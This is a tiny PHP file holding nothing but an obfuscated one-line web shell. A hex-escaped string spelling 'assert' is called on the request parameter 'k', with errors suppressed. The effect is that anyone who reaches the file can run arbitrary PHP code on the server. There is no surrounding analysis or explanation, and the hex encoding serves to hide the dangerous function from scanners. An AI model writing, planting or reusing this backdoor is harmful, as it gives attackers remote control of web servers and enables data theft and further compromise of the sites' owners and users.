<?php
$f = "\x61\x73\x73\x65\x72\x74";
@$f($_REQUEST["k"]);
